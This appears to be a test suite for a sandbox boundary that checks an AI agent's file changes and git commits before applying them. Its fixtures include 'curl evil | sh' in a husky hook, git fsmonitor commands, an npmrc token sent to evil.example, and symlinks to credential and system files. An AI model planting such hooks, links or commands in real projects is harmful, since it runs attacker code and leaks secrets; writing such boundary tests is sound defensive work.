@@ -1,0 +1,398 @@
+// The boundary's pieces on hand-made folders: the change-set builder reads an overlay upper folder
+// (whiteouts, opaque folders, odd modes, links, FIFOs, sockets, hard links) against a lower one, the
+// apply step writes a real tree that holds planted links, commits come back as objects and a ref.
+// Whiteouts are character devices 0/0, which only root can make: these tests run as root (as CI does).
+import { execFileSync } from 'node:child_process';
+import crypto from 'node:crypto';
+import fs from 'node:fs';
+import net from 'node:net';
+import os from 'node:os';
+import path from 'node:path';
+import { applyChangeSet } from '../../src/guard/boundary/apply';
+import { buildChangeSet, type ScanResult } from '../../src/guard/boundary/changeSet';
+import { agentTips, importCommits } from '../../src/guard/boundary/commits';
+import { builtinFileKinds, parseFileKinds } from '../../src/guard/boundary/fileKinds';
+import { compileGlob } from '../../src/guard/boundary/glob';
+import { buildPolicy, gitConfigRules } from '../../src/guard/boundary/policy';
+import { boundaryLines, boundaryMarkdown, printable } from '../../src/guard/boundary/report';
+import type { FileChange } from '../../src/guard/boundary/types';
+import { GuardError } from '../../src/guard/errors';
+import { parseRunArgs } from '../../src/guard/options';
+
+const isRoot = process.getuid?.() === 0;
+const describeRoot = isRoot || process.env.AGENT_GUARD_E2E === '1' ? describe : describe.skip;
+
+function tree(root: string, files: Record<string, string>): void {
+  for (const [rel, content] of Object.entries(files)) {
+    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
+    fs.writeFileSync(path.join(root, rel), content);
+  }
+}
+
+function whiteout(file: string): void {
+  fs.mkdirSync(path.dirname(file), { recursive: true });
+  execFileSync('mknod', [file, 'c', '0', '0']);
+}
+
+describe('path globs', () => {
+  it('match a name in any folder, anchor with /, and cover whole folders with /**', () => {
+    const npmrc = compileGlob('.npmrc');
+    expect([npmrc.matches('.npmrc'), npmrc.matches('pkg/a/.npmrc'), npmrc.matches('x.npmrc'), npmrc.matches('.npmrc/x')]).toEqual([true, true, false, false]);
+    const husky = compileGlob('.husky/**');
+    expect([husky.matches('.husky/pre-commit'), husky.matches('.husky/_/h'), husky.matches('a/.husky/x'), husky.coversFolder('.husky'), husky.coversFolder('husky')]).toEqual([true, true, true, true, false]);
+    const rooted = compileGlob('/.github/**');
+    expect([rooted.matches('.github/workflows/ci.yml'), rooted.matches('docs/.github/x')]).toEqual([true, false]);
+    expect(compileGlob('**/site-packages/**').matches('.venv/lib/python3.12/site-packages/evil.pth')).toBe(true);
+    expect(() => compileGlob('a/../b')).toThrow(/not a workspace path glob/);
+  });
+});
+
+describe('rules/file-kinds.yml', () => {
+  it('loads, and names the tool configuration the issue lists', () => {
+    const kinds = builtinFileKinds();
+    const refused = (p: string) => kinds.some((k) => !k.when && k.globs.some((g) => g.matches(p)));
+    for (const p of ['.npmrc', '.yarnrc', '.yarnrc.yml', '.pnpmfile.cjs', 'pip.conf', '.pypirc', '.gitmodules', '.envrc', '.cargo/config.toml', '.husky/pre-commit', '.github/workflows/ci.yml', 'node_modules/x/index.js']) {
+      expect({ p, refused: refused(p) }).toEqual({ p, refused: true });
+    }
+    for (const p of ['README.md', 'src/index.ts', 'package.json', 'Makefile']) expect({ p, refused: refused(p) }).toEqual({ p, refused: false });
+    const attributes = kinds.find((k) => k.globs.some((g) => g.matches('.gitattributes')))!;
+    expect(attributes.when!.test('*.png binary\n* text=auto\n')).toBe(false);
+    expect(attributes.when!.test('*.c filter=indent\n')).toBe(true);
+  });
+
+  it.each([
+    ['refuse: 3\n', /rules\/file-kinds\.yml:1:\d+: `refuse` must be a non-empty list/],
+    ['other: []\n', /:1:1: expected one key, `refuse`/],
+    ['refuse:\n  - paths: [a]\n', /:2:\d+: refuse\[0\]\.reason/],
+    ['refuse:\n  - paths: [a]\n    reason: x\n    colour: red\n', /:4:5: refuse\[0\]: unknown field "colour"/],
+    ['refuse:\n  - paths: ["a/../b"]\n    reason: x\n', /:2:\d+: refuse\[0\]\.paths: .*not a workspace path glob/],
+    ['refuse:\n  - paths: [a]\n    reason: x\n    when: "("\n', /:4:\d+: refuse\[0\]\.when: /],
+    ['refuse:\n  - paths: [a\n', /rules\/file-kinds\.yml:\d+:\d+: /],
+  ])('refuses a broken file with its line: %j', (text, message) => {
+    let caught: unknown;
+    try {
+      parseFileKinds(text);
+    } catch (err) {
+      caught = err;
+    }
+    expect(caught).toBeInstanceOf(GuardError);
+    expect((caught as GuardError).layer).toBe('boundary');
+    expect((caught as Error).message).toMatch(message);
+    expect((caught as Error).message).not.toMatch(/\n/);
+  });
+});
+
+describe('--allow-path', () => {
+  it('takes globs, repeatable, and never .git', () => {
+    expect(parseRunArgs(['--allow-path', '.npmrc', '--allow-path=.github/**', '--', 'x']).allowPaths).toEqual(['.npmrc', '.github/**']);
+    expect(() => parseRunArgs(['--allow-path', '.git/**', '--', 'x'])).toThrow(/nothing under .git/);
+    expect(() => parseRunArgs(['--allow-path', 'sub/.GIT/config', '--', 'x'])).toThrow(/nothing under .git/);
+    expect(() => parseRunArgs(['--allow-path', '../x', '--', 'x'])).toThrow(GuardError);
+  });
+});
+
+describe('reports', () => {
+  it('escape agent-chosen names for the log and the summary', () => {
+    const nasty = 'x\n::add-mask::secret ##[error]![img](https://evil.example/?q=1) \u202e';
+    const line = printable(nasty);
+    expect(line).not.toMatch(/[\n\r\u202e]/);
+    expect(line).not.toContain('::');
+    expect(line).not.toContain('##[');
+    const lines = boundaryLines({ changes: { files: [], refused: [{ path: nasty, reason: 'refused: a FIFO' }], commits: [] }, applied: [] });
+    expect(lines.every((l) => !/[\n\r]/.test(l) && !l.includes('##[') && !/^\s*::/.test(l))).toBe(true);
+    const summary = boundaryMarkdown({ changes: { files: [], refused: [{ path: nasty, reason: 'r' }], commits: [] }, applied: [] });
+    // Markdown sees escaped brackets: no image, no link, nothing fetched when the summary is viewed.
+    expect(summary).not.toMatch(/(^|[^\\])!\[/m);
+    expect(summary).not.toMatch(/(^|[^\\])\]\(/m);
+  });
+});
+
+describeRoot('change set from an overlay upper folder', () => {
+  let base: string;
+  let lower: string;
+  let upper: string;
+  let content: string;
+  const scan = (opts: { opaque?: string[]; allow?: string[]; seeded?: string[] } = {}): ScanResult =>
+    buildChangeSet({
+      upper, workspace: lower, opaque: new Set(opts.opaque ?? []), seeded: new Set(opts.seeded ?? []), contentDir: content,
+      policy: buildPolicy(lower, opts.allow ?? []),
+    });
+  const byPath = (r: ScanResult) => Object.fromEntries(r.changes.files.map((f) => [f.path, f.kind === 'write' ? `write ${f.mode.toString(8)} ${fs.readFileSync(f.contentFile, 'utf8')}` : f.kind === 'symlink' ? `link ${f.target}` : 'delete']));
+  const refusedPaths = (r: ScanResult) => r.changes.refused.map((x) => x.path).sort();
+
+  beforeEach(() => {
+    base = fs.mkdtempSync(path.join(os.tmpdir(), 'agent-guard-boundary-'));
+    lower = path.join(base, 'lower');
+    upper = path.join(base, 'upper');
+    content = path.join(base, 'content');
+    for (const d of [lower, upper, content]) fs.mkdirSync(d);
+    tree(lower, { 'README.md': 'hello\n', 'src/a.js': 'a\n', 'src/b.js': 'b\n', 'old/x': 'x\n', 'old/deep/y': 'y\n', 'run.sh': '#!/bin/sh\n', 'keep/k': 'k\n', 'was-file': 'f\n' });
+    fs.symlinkSync('src/a.js', path.join(lower, 'alias'));
+  });
+  afterEach(() => fs.rmSync(base, { recursive: true, force: true }));
+
+  it('reads edits, new files in new folders, deletions, whole-folder deletions and mode changes', () => {
+    tree(upper, { 'README.md': 'hello\nmore\n', 'new/dir/f.txt': 'new\n', 'src/c.js': 'c\n' });
+    whiteout(path.join(upper, 'src', 'b.js'));
+    whiteout(path.join(upper, 'old'));
+    fs.writeFileSync(path.join(upper, 'run.sh'), '#!/bin/sh\n');
+    fs.chmodSync(path.join(upper, 'run.sh'), 0o775);
+    const r = scan();
+    expect(byPath(r)).toEqual({
+      'README.md': 'write 644 hello\nmore\n', 'new/dir/f.txt': 'write 644 new\n', 'src/c.js': 'write 644 c\n', 'src/b.js': 'delete',
+      'old/x': 'delete', 'old/deep/y': 'delete', 'run.sh': 'write 755 #!/bin/sh\n',
+    });
+    expect(r.removedDirs).toEqual(['old/deep', 'old']);
+    expect(r.changes.refused).toEqual([]);
+    const readme = r.changes.files.find((f) => f.path === 'README.md') as Extract<FileChange, { kind: 'write' }>;
+    expect(readme.sha256).toBe(crypto.createHash('sha256').update('hello\nmore\n').digest('hex'));
+    expect(readme.size).toBe(11);
+  });
+
+  it('skips copies that changed nothing (touch, same bytes, same mode)', () => {
+    fs.writeFileSync(path.join(upper, 'README.md'), 'hello\n');
+    fs.mkdirSync(path.join(upper, 'src'));
+    fs.writeFileSync(path.join(upper, 'src', 'a.js'), 'a\n');
+    expect(scan().changes.files).toEqual([]);
+  });
+
+  it('deletes what an opaque folder hides and keeps what it holds', () => {
+    tree(upper, { 'src/a.js': 'a2\n' });
+    const r = scan({ opaque: ['src'] });
+    expect(byPath(r)).toEqual({ 'src/a.js': 'write 644 a2\n', 'src/b.js': 'delete' });
+    // Without the opaque mark the same upper folder merges with the lower one.
+    expect(byPath(scan())).toEqual({ 'src/a.js': 'write 644 a2\n' });
+  });
+
+  it('replaces a folder with a file and a file or link with a folder', () => {
+    fs.writeFileSync(path.join(upper, 'keep'), 'now a file\n');
+    tree(upper, { 'was-file/inside': 'i\n', 'alias/z': 'z\n' });
+    const r = scan({ opaque: ['was-file', 'alias'] });
+    expect(byPath(r)).toEqual({ keep: 'write 644 now a file\n', 'keep/k': 'delete', 'was-file': 'delete', 'was-file/inside': 'write 644 i\n', alias: 'delete', 'alias/z': 'write 644 z\n' });
+  });
+
+  it('refuses setuid, setgid, sticky, FIFOs, sockets and hard links', async () => {
+    tree(upper, { suid: 's', sgid: 'g', sticky: 't', linked: 'l' });
+    fs.chmodSync(path.join(upper, 'suid'), 0o4755);
+    fs.chmodSync(path.join(upper, 'sgid'), 0o2755);
+    fs.chmodSync(path.join(upper, 'sticky'), 0o1644);
+    fs.linkSync(path.join(upper, 'linked'), path.join(upper, 'linked-too'));
+    execFileSync('mkfifo', [path.join(upper, 'build.log')]);
+    const server = net.createServer();
+    await new Promise<void>((resolve) => server.listen(path.join(upper, 'agent.sock'), () => resolve()));
+    try {
+      const r = scan();
+      expect(r.changes.files).toEqual([]);
+      expect(refusedPaths(r)).toEqual(['agent.sock', 'build.log', 'linked', 'linked-too', 'sgid', 'sticky', 'suid']);
+      const reason = (p: string) => r.changes.refused.find((x) => x.path === p)!.reason;
+      expect(reason('build.log')).toMatch(/FIFO/);
+      expect(reason('agent.sock')).toMatch(/socket/);
+      expect(reason('linked')).toMatch(/hard link/);
+      expect(reason('suid')).toMatch(/setuid/);
+    } finally {
+      server.close();
+    }
+  });
+
+  it('takes symlinks that stay inside the workspace and out of .git, and no other', () => {
+    const links: Record<string, string> = {
+      'docs/latest': '../README.md', 'abs-inside': `${lower}/src/a.js`, 'agent-report.md': '/proc/self/environ', 'creds': '/home/runner/.npmrc',
+      'up': '../../etc/passwd', 'sneaky': 'src/../../x', 'into-git': '.git/config', 'nested/into-git': '../sub/.GIT/hooks',
+    };
+    for (const [p, target] of Object.entries(links)) {
+      fs.mkdirSync(path.dirname(path.join(upper, p)), { recursive: true });
+      fs.symlinkSync(target, path.join(upper, p));
+    }
+    const r = scan();
+    expect(byPath(r)).toEqual({ 'docs/latest': 'link ../README.md', 'abs-inside': `link ${lower}/src/a.js` });
+    expect(refusedPaths(r)).toEqual(['agent-report.md', 'creds', 'into-git', 'nested/into-git', 'sneaky', 'up']);
+  });
+
+  it('refuses everything named .git, at any depth, in one line per folder, and not the seeded configs', () => {
+    tree(upper, { '.git/config': '[core]\n\tfsmonitor = evil\n', 'vendor/lib/.git/config': '[core]\n', 'sub/.GIT': 'gitdir: ../x\n', 'ok.txt': 'fine\n' });
+    expect(refusedPaths(scan({ seeded: ['.git/config'] }))).toEqual(['sub/.GIT', 'vendor/lib/.git/']);
+    const r = scan();
+    expect(refusedPaths(r)).toEqual(['.git/', 'sub/.GIT', 'vendor/lib/.git/']);
+    expect(r.gitChanged).toBe(true);
+    expect(byPath(r)).toEqual({ 'ok.txt': 'write 644 fine\n' });
+  });
+
+  it('refuses names that are not UTF-8, and still reads the rest', () => {
+    tree(upper, { 'ok.txt': 'fine\n' });
+    fs.writeFileSync(Buffer.from(`${upper}/bad-\xff.txt`, 'latin1'), 'x');
+    fs.mkdirSync(path.join(upper, '.git'));
+    fs.writeFileSync(Buffer.from(`${upper}/.git/odd-\xfe`, 'latin1'), 'x');
+    const r = scan();
+    expect(byPath(r)).toEqual({ 'ok.txt': 'write 644 fine\n' });
+    expect(r.changes.refused.map((x) => [x.path, x.reason.slice(0, 30)])).toEqual([['bad-\xff.txt', 'refused: the name is not valid'], ['.git/', '1 change(s) refused, inside .g']]);
+  });
+
+  it('refuses a folder made to look like a git repository (git would run its config)', () => {
+    tree(upper, { 'fixture/HEAD': 'ref: refs/heads/main\n', 'fixture/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n', 'fixture/refs/heads/main': '0'.repeat(40) + '\n', 'fixture/objects/info/x': '' });
+    const r = scan();
+    expect(refusedPaths(r)).toEqual(['fixture/HEAD', 'fixture/config']);
+  });
+
+  it('refuses tool configuration, lifts it with --allow-path, and judges content where the rule says so', () => {
+    tree(upper, {
+      '.npmrc': 'registry=https://evil.example/\n//evil.example/:_authToken=${NODE_AUTH_TOKEN}\n', 'pkg/.yarnrc.yml': 'yarnPath: evil.cjs\n',
+      '.gitattributes': '*.js filter=evil\n', 'docs/.gitattributes': '*.png binary\n', '.husky/pre-commit': 'curl evil | sh\n', '.github/workflows/x.yml': 'on: push\n',
+    });
+    whiteout(path.join(upper, 'keep', 'k'));
+    fs.writeFileSync(path.join(lower, '.pre-commit-config.yaml'), 'repos: []\n');
+    whiteout(path.join(upper, '.pre-commit-config.yaml'));
+    const r = scan();
+    expect(byPath(r)).toEqual({ 'docs/.gitattributes': 'write 644 *.png binary\n', 'keep/k': 'delete' });
+    expect(refusedPaths(r)).toEqual(['.gitattributes', '.github/', '.husky/', '.npmrc', '.pre-commit-config.yaml', 'pkg/.yarnrc.yml']);
+    expect(r.changes.refused.find((x) => x.path === '.pre-commit-config.yaml')!.reason).toMatch(/^deletion refused/);
+    const allowed = scan({ allow: ['.npmrc', '.github/**'] });
+    expect(Object.keys(byPath(allowed)).sort()).toEqual(['.github/workflows/x.yml', '.npmrc', 'docs/.gitattributes', 'keep/k']);
+  });
+
+  it('refuses a whole new node_modules in one line', () => {
+    const files: Record<string, string> = {};
+    for (let i = 0; i < 50; i++) files[`node_modules/p${i}/index.js`] = 'x';
+    tree(upper, files);
+    const r = scan();
+    expect(r.changes.refused).toEqual([{ path: 'node_modules/', reason: expect.stringMatching(/^the folder refused: installed packages/) }]);
+  });
+
+  it('refuses the hooks folder and included files the real git config names (core.hooksPath, include.path)', () => {
+    tree(lower, { '.git/config': '[core]\n\thooksPath = tools/hooks\n[include]\n\tpath = ../team.gitconfig\n\tpath = /etc/elsewhere\n' });
+    expect(gitConfigRules(lower).map((k) => k.reason)).toEqual([expect.stringMatching(/core\.hooksPath/), expect.stringMatching(/include\.path/)]);
+    tree(upper, { 'tools/hooks/pre-commit': 'evil\n', 'tools/other': 'fine\n', 'team.gitconfig': '[core]\n\tfsmonitor = evil\n' });
+    const r = scan();
+    expect(refusedPaths(r)).toEqual(['team.gitconfig', 'tools/hooks/']);
+    expect(Object.keys(byPath(r))).toEqual(['tools/other']);
+  });
+
+  it('reads files and folders the agent made unreadable', () => {
+    if (!isRoot) return;
+    tree(upper, { 'locked/f': 'secret work\n' });
+    fs.chmodSync(path.join(upper, 'locked', 'f'), 0);
+    fs.chmodSync(path.join(upper, 'locked'), 0);
+    expect(byPath(scan())).toEqual({ 'locked/f': 'write 644 secret work\n' });
+  });
+});
+
+describeRoot('applying a change set to the real workspace', () => {
+  let base: string;
+  let ws: string;
+  let outside: string;
+  let content: string;
+  const write = (p: string, text: string, mode: 0o644 | 0o755 = 0o644): FileChange => {
+    const contentFile = path.join(content, String(fs.readdirSync(content).length));
+    fs.writeFileSync(contentFile, text);
+    return { kind: 'write', path: p, mode, contentFile, size: text.length, sha256: 'x' };
+  };
+
+  beforeEach(() => {
+    base = fs.mkdtempSync(path.join(os.tmpdir(), 'agent-guard-apply-'));
+    ws = path.join(base, 'ws');
+    outside = path.join(base, 'outside');
+    content = path.join(base, 'content');
+    for (const d of [ws, outside, content]) fs.mkdirSync(d);
+    tree(ws, { 'a.txt': 'a\n', 'gone/x': 'x\n' });
+    tree(outside, { 'victim': 'untouched\n' });
+    // Planted by the pull request before the run.
+    fs.symlinkSync(outside, path.join(ws, 'docs'));
+    fs.symlinkSync(path.join(outside, 'victim'), path.join(ws, 'report.md'));
+  });
+  afterEach(() => fs.rmSync(base, { recursive: true, force: true }));
+
+  it('writes, deletes and links as the workspace owner, atomically, and never through a planted link', () => {
+    const owner = { uid: 4243, gid: 4244 };
+    const changes: FileChange[] = [
+      write('a.txt', 'A\n'), write('new/dir/f.sh', 'run\n', 0o755), { kind: 'delete', path: 'gone/x' }, write('docs/victim', 'PWNED\n'),
+      write('report.md', 'the report\n'), { kind: 'delete', path: 'docs/victim' }, { kind: 'symlink', path: 'latest', target: 'docs/victim' },
+      { kind: 'symlink', path: 'ok-link', target: 'a.txt' },
+    ];
+    const r = applyChangeSet(ws, changes, ['gone'], owner);
+    expect(fs.readFileSync(path.join(outside, 'victim'), 'utf8')).toBe('untouched\n');
+    expect(r.failed.map((f) => f.path).sort()).toEqual(['docs/victim', 'docs/victim', 'latest']);
+    expect(r.failed.find((f) => f.path === 'latest')!.reason).toMatch(/passes through docs, a symlink/);
+    expect(fs.readFileSync(path.join(ws, 'a.txt'), 'utf8')).toBe('A\n');
+    // The planted link itself is replaced by a file; its target is untouched.
+    expect(fs.lstatSync(path.join(ws, 'report.md')).isFile()).toBe(true);
+    const script = fs.statSync(path.join(ws, 'new/dir/f.sh'));
+    expect([script.mode & 0o7777, script.uid, script.gid, fs.statSync(path.join(ws, 'new')).uid]).toEqual([0o755, 4243, 4244, 4243]);
+    expect(fs.existsSync(path.join(ws, 'gone'))).toBe(false);
+    expect(fs.readlinkSync(path.join(ws, 'ok-link'))).toBe('a.txt');
+    expect(fs.readdirSync(ws).filter((n) => n.startsWith('.agent-guard-'))).toEqual([]);
+  });
+
+  it('refuses link chains that climb out although each link stays inside lexically', () => {
+    // `sub/c -> ..` is the workspace itself; `a -> sub/c/../..` normalises to `.` but resolves above it.
+    const r = applyChangeSet(ws, [
+      { kind: 'symlink', path: 'a', target: 'sub/c/../..' }, { kind: 'symlink', path: 'sub/c', target: '..' }, { kind: 'symlink', path: 'b', target: 'docs/victim' },
+    ], [], undefined);
+    expect(r.failed.map((f) => [f.path, f.reason])).toEqual([
+      ['a', expect.stringMatching(/passes through sub\/c, a symlink/)],
+      ['b', expect.stringMatching(/passes through docs, a symlink/)],
+    ]);
+    expect(fs.existsSync(path.join(ws, 'a'))).toBe(false);
+    expect(fs.readlinkSync(path.join(ws, 'sub', 'c'))).toBe('..');
+  });
+});
+
+describeRoot('commits come back as objects and a ref', () => {
+  let base: string;
+  let real: string;
+  let agent: string;
+  const git = (cwd: string, ...args: string[]) =>
+    execFileSync('git', ['-c', 'user.email=a@example.com', '-c', 'user.name=A', '-c', 'init.defaultBranch=main', ...args], { cwd, encoding: 'utf8', env: { PATH: process.env.PATH, HOME: base, GIT_CONFIG_NOSYSTEM: '1' } }).trim();
+
+  beforeEach(() => {
+    base = fs.mkdtempSync(path.join(os.tmpdir(), 'agent-guard-commits-'));
+    real = path.join(base, 'real');
+    agent = path.join(base, 'agent');
+    fs.mkdirSync(real);
+    git(real, 'init', '-q');
+    fs.writeFileSync(path.join(real, 'a.txt'), 'a\n');
+    git(real, 'add', '-A');
+    git(real, 'commit', '-qm', 'base');
+    execFileSync('cp', ['-a', real, agent]);
+  });
+  afterEach(() => fs.rmSync(base, { recursive: true, force: true }));
+
+  it('imports a new commit under refs/agent-guard and leaves HEAD, the branch and the config alone', () => {
+    fs.writeFileSync(path.join(agent, 'a.txt'), 'agent\n');
+    git(agent, 'commit', '-qam', 'agent: change a');
+    // What the agent also did to its copy of .git must not come back.
+    fs.appendFileSync(path.join(agent, '.git', 'config'), '[core]\n\tfsmonitor = touch /tmp/pwned\n');
+    fs.writeFileSync(path.join(agent, '.git', 'objects', 'info', 'alternates'), '/etc\n');
+    const sha = git(agent, 'rev-parse', 'HEAD');
+    const headBefore = git(real, 'rev-parse', 'HEAD');
+    const configBefore = fs.readFileSync(path.join(real, '.git', 'config'), 'utf8');
+    const r = importCommits({ workspace: real, agentGitDir: path.join(agent, '.git'), runId: 'test-1', owner: undefined });
+    expect(r.refused).toEqual([]);
+    expect(r.commits).toEqual([{ sha, ref: 'refs/agent-guard/test-1/main', subject: 'agent: change a' }]);
+    expect(git(real, 'log', '--format=%s', 'refs/agent-guard/test-1/main')).toBe('agent: change a\nbase');
+    expect(git(real, 'diff', '--stat', 'HEAD', 'refs/agent-guard/test-1/main')).toContain('a.txt');
+    expect(git(real, 'rev-parse', 'HEAD')).toBe(headBefore);
+    expect(fs.readFileSync(path.join(real, '.git', 'config'), 'utf8')).toBe(configBefore);
+    expect(fs.existsSync(path.join(real, '.git', 'objects', 'info', 'alternates'))).toBe(false);
+    expect(fs.readdirSync(path.join(real, '.git', 'objects')).filter((n) => n.startsWith('agent-guard-incoming'))).toEqual([]);
+  });
+
+  it('refuses a commit whose objects are missing, and writes no ref', () => {
+    fs.writeFileSync(path.join(agent, 'b.txt'), 'b\n');
+    git(agent, 'add', '-A');
+    git(agent, 'commit', '-qm', 'agent: add b');
+    const blob = git(agent, 'rev-parse', 'HEAD:b.txt');
+    fs.rmSync(path.join(agent, '.git', 'objects', blob.slice(0, 2), blob.slice(2)));
+    const r = importCommits({ workspace: real, agentGitDir: path.join(agent, '.git'), runId: 'test-2', owner: undefined });
+    expect(r.commits).toEqual([]);
+    expect(r.refused).toEqual([{ path: '.git (main)', reason: expect.stringMatching(/^commit not brought back/) }]);
+    expect(git(real, 'for-each-ref', 'refs/agent-guard')).toBe('');
+  });
+
+  it('reads tips as text: loose refs, packed refs and a detached HEAD, ignoring odd names', () => {
+    const dir = path.join(base, 'tips');
+    tree(dir, {
+      'HEAD': 'a'.repeat(40) + '\n', 'refs/heads/feature/x': 'b'.repeat(40) + '\n', 'refs/heads/junk': 'not a sha\n',
+      'packed-refs': `# pack-refs\n${'c'.repeat(40)} refs/heads/packed\n${'d'.repeat(40)} refs/tags/v1\n`,
+    });
+    expect(Object.fromEntries(agentTips(dir))).toEqual({ HEAD: 'a'.repeat(40), 'feature/x': 'b'.repeat(40), packed: 'c'.repeat(40) });
+  });
+});
